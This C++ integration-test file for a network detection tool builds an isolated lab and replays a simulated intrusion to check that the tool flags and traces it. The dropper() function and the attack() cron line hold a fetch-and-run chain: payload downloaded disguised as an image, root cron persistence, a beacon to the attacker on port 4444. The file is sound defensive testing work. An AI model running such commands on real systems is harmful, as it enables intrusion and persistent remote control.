// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/chain/chain.h"

#include "core/base/wall_clock.h"
#include "tests/chain/steps.h"
#include "tests/trace_scenarios/trace_view.h"

#include <algorithm>
#include <cerrno>
#include <csignal>
#include <fstream>
#include <sched.h>
#include <sstream>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

namespace metsuke::test {

namespace fs = std::filesystem;
using Json = nlohmann::json;
using std::chrono::seconds;

namespace {

constexpr uint16_t kWebPort = 80;
constexpr int kPatience = 1'000; // hundredths of a second, for processes that end
constexpr const char* kAgentPort = "8883";
constexpr const char* kEnrolPort = "8884";

/// What somebody is talked into running.
std::string dropper() {
    return std::string("#!/bin/bash\n# METSUKE-SIM\nPEER=") + ChainNetwork::kAttackerAddress + R"sh(
[ -n "$METSUKE_SIM_ROOT" ] || exit 1
cd "$METSUKE_SIM_ROOT" || exit 1
curl -s -o .u.part "http://$PEER/images/logo.png"
mv .u.part .update
chmod +x .update
printf '* * * * * root %s/.update calls %s 4444 1000\n' "$METSUKE_SIM_ROOT" "$PEER" >> /etc/cron.d/upd
setsid "$METSUKE_SIM_ROOT/.update" calls "$PEER" 4444 1000 >/dev/null 2>&1 </dev/null &
exit 0
)sh";
}

std::string joined(const Json& texts) {
    std::string all;
    for (const Json& text : texts) {
        all += (all.empty() ? "" : " ") + text.get<std::string>();
    }
    return all;
}

} // namespace

Chain::Chain(fs::path programs)
    : m_programs(std::move(programs)) {
    need(::unshare(CLONE_NEWNS) == 0 && ::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0,
        "this machine gives no mount namespace");
}

bool Chain::hasEnded(const Process& process) {
    siginfo_t info{};
    return ::waitid(P_PID, static_cast<id_t>(process.id()), &info, WEXITED | WNOHANG | WNOWAIT) != 0 || info.si_pid != 0;
}

void Chain::makeFolder() {
    std::string name = (fs::temp_directory_path() / "metsuke-chain-XXXXXX").string();
    need(::mkdtemp(name.data()) != nullptr, "no folder can be made in " + fs::temp_directory_path().string());
    m_folder = name;
    need(::mount("metsuke", m_folder.c_str(), "tmpfs", 0, "size=512m,mode=755") == 0,
        "no file system can be mounted at " + name);
    fs::create_directories(root());
    fs::create_directories(m_folder / "groups");
    // Seen by this program and those that it starts, and by nobody else.
    need(::mount("metsuke", "/etc/cron.d", "tmpfs", 0, "size=1m") == 0, "/etc/cron.d cannot be covered");
    need(::mount("none", (m_folder / "groups").c_str(), "cgroup2", 0, nullptr) == 0,
        "this machine gives no control groups (cgroup2)");
    m_group = m_folder / "groups" / ("metsuke-chain-" + std::to_string(::getpid()));
    need(::mkdir(m_group.c_str(), 0700) == 0, "no control group can be made");
    ::setenv("METSUKE_SIM_ROOT", root().c_str(), 1);
    ::setenv("METSUKE_RESOURCES", METSUKE_SOURCE_DIR "/resources", 1);
    ::setenv(
        "XDG_DATA_HOME", (m_folder / "data").c_str(), 1); // what captures learn is not for whoever runs this
}

void Chain::clear() {
    if (!m_group.empty()) {
        std::ofstream(m_group / "cgroup.kill") << '1';
        m_running.clear();
        // They are being killed already; those that are just ending are in no list any more, and in the way.
        for (int i = 0; ::rmdir(m_group.c_str()) != 0 && errno == EBUSY && i < kPatience; ++i) {
            ::usleep(10'000);
        }
    }
    m_attacker.reset();
    m_network.reset();
    if (!m_folder.empty()) {
        ::umount2("/etc/cron.d", MNT_DETACH);
        ::umount2((m_folder / "groups").c_str(), MNT_DETACH);
        ::umount2(m_folder.c_str(), MNT_DETACH);
        ::rmdir(m_folder.c_str());
    }
}

std::unique_ptr<Process> Chain::start(
    const std::string& space, const std::vector<std::string>& command) const {
    std::vector<std::string> whole{"/bin/sh", "-c",
        R"(echo $$ > "$0" && space=$1 && shift && exec ip netns exec "$space" "$@")",
        (m_group / "cgroup.procs").string(), m_network->nameOf(space)};
    whole.insert(whole.end(), command.begin(), command.end());
    return std::make_unique<Process>(std::move(whole));
}

std::string Chain::must(const std::string& space, const std::vector<std::string>& command) const {
    const auto process = start(space, command);
    need(within(seconds(60), [&] { return hasEnded(*process); }), command.at(0) + " does not end");
    need(process->wait() == 0,
        command.at(0) + ' ' + (command.size() > 1 ? command[1] : "") + " failed: " + process->err() + process->out());
    return process->out();
}

std::vector<Json> Chain::rows(const std::vector<std::string>& command) const {
    std::istringstream lines(must(ChainNetwork::kWorkstation, command));
    std::vector<Json> rows;
    for (std::string line; std::getline(lines, line);) {
        rows.push_back(Json::parse(line));
    }
    return rows;
}

std::vector<Json> Chain::list(const char* what) const {
    return rows({program("metsuke-cli"), what, caseFile(), "--json"});
}

std::vector<std::string> Chain::agentsVerb(const std::vector<std::string>& words) const {
    std::vector<std::string> whole{program("metsuke-cli"), "agents", "--fleet", m_folder / "fleet", "--json"};
    whole.insert(whole.end(), words.begin(), words.end());
    return whole;
}

bool Chain::isConnected() const {
    const auto known = rows(agentsVerb({"list"}));
    return known.size() == 1 && known[0].value("connected", false);
}

std::optional<Json> Chain::incident() const {
    for (Json& one : list("incidents")) {
        if (one.value("host", "") == ChainNetwork::kEndpointAddress) {
            return std::move(one);
        }
    }
    return std::nullopt;
}

std::string Chain::network() {
    makeFolder();
    m_network.emplace();
    m_attacker.emplace([this] { m_network->enter(ChainNetwork::kAttacker); });
    const std::string simulant = readFile(program("metsuke_simulant"));
    need(!simulant.empty(), program("metsuke_simulant") + " is missing: build the tests");
    m_attacker->serveFiles(kWebPort,
        {{"/invoice.sh", {dropper(), "text/plain"}}, {"/images/logo.png", {simulant, "image/png"}}});
    m_attacker->takeStreams(kHomePort);
    must(ChainNetwork::kEndpoint,
        {"curl", "-s", "-o", "/dev/null", std::string("http://") + ChainNetwork::kAttackerAddress + '/'});
    return std::string("endpoint ") + ChainNetwork::kEndpointAddress + ", attacker "
        + ChainNetwork::kAttackerAddress + ", workstation " + ChainNetwork::kWorkstationAddress;
}

std::string Chain::serve() {
    auto& server = m_running["serve"] = start(ChainNetwork::kWorkstation,
        agentsVerb({"serve", "--listen", ChainNetwork::kWorkstationAddress, "--port", kAgentPort,
            "--enrol-port", kEnrolPort, "--case", caseFile()}));
    const auto isListening = [&](const char* port) {
        const auto connecting = start(ChainNetwork::kEndpoint,
            {"bash", "-c",
                std::string("exec 3<>/dev/tcp/") + ChainNetwork::kWorkstationAddress + '/' + port});
        return connecting->wait() == 0;
    };
    need(within(seconds(30),
             [&] { return hasEnded(*server) || (isListening(kAgentPort) && isListening(kEnrolPort)); })
            && !hasEnded(*server),
        "metsuke-cli agents serve: " + server->out() + server->err());
    return "the broker answers the endpoint on both ports";
}

std::string Chain::capture() {
    auto& capturing = m_running["capture"] = start(ChainNetwork::kWorkstation,
        {program("metsuke-cli"), "capture", "-i", ChainNetwork::kMirror, "--case", caseFile(), "--json",
            m_folder / "chain.json"});
    need(within(seconds(30), [&] { return hasEnded(*capturing) || fs::exists(caseFile()); })
            && !hasEnded(*capturing),
        "metsuke-cli capture: " + capturing->err()); // the case is made once packets are captured
    return std::string("of the mirror ") + ChainNetwork::kMirror;
}

std::string Chain::enrol() {
    const auto made = rows(agentsVerb({"enrol", "--listen", ChainNetwork::kWorkstationAddress, "--port",
        kAgentPort, "--enrol-port", kEnrolPort, "--approve"}));
    must(ChainNetwork::kEndpoint,
        {program("metsuke-agent"), "enrol", "--token", made.at(0).at("token").get<std::string>(), "--state",
            m_folder / "agent", "--actuator", m_folder / "actuator"});
    const auto known = rows(agentsVerb({"list"}));
    need(known.size() == 1, "the workstation knows " + std::to_string(known.size()) + " agents");
    m_device = known[0].at("device").get<std::string>();
    return "the workstation knows " + m_device;
}

std::string Chain::record() {
    auto& acting = m_running["actuator"] = start(ChainNetwork::kEndpoint,
        {program("metsuke-agent"), "actuator", "--folder", m_folder / "actuator", "--socket", m_folder / "actuator.sock"});
    need(within(seconds(30), [&] { return hasEnded(*acting) || fs::exists(m_folder / "actuator.sock"); }) && !hasEnded(*acting),
        "metsuke-agent actuator: " + acting->out() + acting->err());
    auto& recording = m_running["record"] = start(ChainNetwork::kEndpoint,
        {program("metsuke-agent"), "record", "--history", m_folder / "history", "--state",
            m_folder / "agent", "--actuator", m_folder / "actuator.sock"});
    need(within(seconds(60), [&] { return hasEnded(*recording) || isConnected(); }) && !hasEnded(*recording),
        "metsuke-agent record is not connected: " + recording->out() + recording->err());
    // What runs already is looked at first; who started this is the last of it.
    const std::string self = "\"pid\":" + std::to_string(::getpid()) + ',';
    need(within(seconds(60),
             [&] {
                 return must(ChainNetwork::kEndpoint,
                            {program("metsuke-cli"), "history", m_folder / "history", "--export"})
                            .find(self)
                     != std::string::npos;
             }),
        "the first look of the recording does not end");
    return "the agent records, and is connected";
}

std::string Chain::attack() {
    m_attacked = wallClock();
    // Whoever fetches it does so in a job of the system's cron, not in this program: nothing of this is to
    // blame. The line stands in the table that only this program and its children see, and cron runs it at
    // once.
    std::ofstream("/etc/cron.d/job")
        << "METSUKE_SIM_ROOT=" << root().string()
        << "\n@reboot root cd \"$METSUKE_SIM_ROOT\" && curl -s -o invoice.sh http://"
        << ChainNetwork::kAttackerAddress << "/invoice.sh && bash invoice.sh\n";
    auto& cron = m_running["cron"] = start(ChainNetwork::kEndpoint,
        {"unshare", "--mount", "sh", "-c", "mount -t tmpfs none /run && exec cron -f"});
    need(within(seconds(30), [&] { return hasEnded(*cron) || m_attacker->visits(kHomePort).size() >= 3; })
            && !hasEnded(*cron),
        "nobody calls home: " + cron->err());
    return "fetched, dropped, persistent in /etc/cron.d/upd, calling home";
}

std::string Chain::detect() {
    std::optional<Json> found;
    need(
        within(seconds(90), [&] { return (found = incident()).has_value(); }), "no incident of the endpoint");
    std::ostringstream told;
    told.precision(1);
    told << std::fixed << "after " << static_cast<double>(wallClock() - m_attacked) / 1e9 << " s: severity "
         << found->at("severity").get<double>() << ", " << joined(found->at("rules"));
    return told.str();
}

std::string Chain::trace() {
    std::optional<Json> flow;
    need(within(seconds(60),
             [&] {
                 for (Json& one : list("flows")) {
                     if (one.value("id.resp_h", "") == ChainNetwork::kAttackerAddress
                         && one.value("id.resp_p", 0) == kHomePort) {
                         flow = std::move(one);
                     }
                 }
                 return flow.has_value();
             }),
        "the case has no flow of the beacon");
    const std::string remote = ChainNetwork::kAttackerAddress + (':' + std::to_string(kHomePort));
    const TraceView view(must(ChainNetwork::kWorkstation,
        agentsVerb(
            {"trace", m_device, "--at", flow->at("ts").get<std::string>(), "--remote", remote, "--local",
                ChainNetwork::kEndpointAddress + (':' + std::to_string(flow->at("id.orig_p").get<int>())),
                "--wait", "30"})));
    std::ostringstream whole;
    whole << view;
    const auto persisted = view.blast("persistence");
    const auto processes = view.blast("process");
    const auto files = view.blast("file");
    need(view.label("subject") == root() / ".update", "the subject is wrong\n" + whole.str());
    need(view.entry() == "download" && view.label("root").starts_with(ChainNetwork::kAttackerAddress),
        "the download is not named\n" + whole.str());
    need(files.contains(root() / "invoice.sh"), "the dropper is not named\n" + whole.str());
    need(!files.contains(program("metsuke_chain")), "a bystander is blamed\n" + whole.str());
    need(std::ranges::any_of(persisted,
             [](const std::string& one) { return one.find("/etc/cron.d/upd") != std::string::npos; }),
        "the cron entry is not named\n" + whole.str());
    std::istringstream story(view.story());
    std::string told = "download from " + view.label("root") + ", dropper invoice.sh, cron entry";
    for (std::string line; std::getline(story, line);) {
        told += "\n                          " + line;
    }
    return told;
}

std::string Chain::close() {
    const auto& capturing = m_running.at("capture");
    capturing->signal(SIGINT);
    need(within(seconds(60), [&] { return hasEnded(*capturing); }), "metsuke-cli capture does not end");
    need(capturing->wait() == 0, "metsuke-cli capture: " + capturing->err());
    const Json result = Json::parse(readFile(m_folder / "chain.json"), nullptr, false);
    need(result.is_object(), "the capture's result is no JSON");
    const bool hasIncident = std::ranges::any_of(result.at("incidents"),
        [](const Json& one) { return one.value("host", "") == ChainNetwork::kEndpointAddress; });
    need(hasIncident, "the capture's result has no incident of the endpoint");
    return std::to_string(result["captures"][0].value("packets", 0)) + " packets, "
        + std::to_string(result["totals"].value("dropped", 0)) + " dropped, incident in the JSON";
}

} // namespace metsuke::test
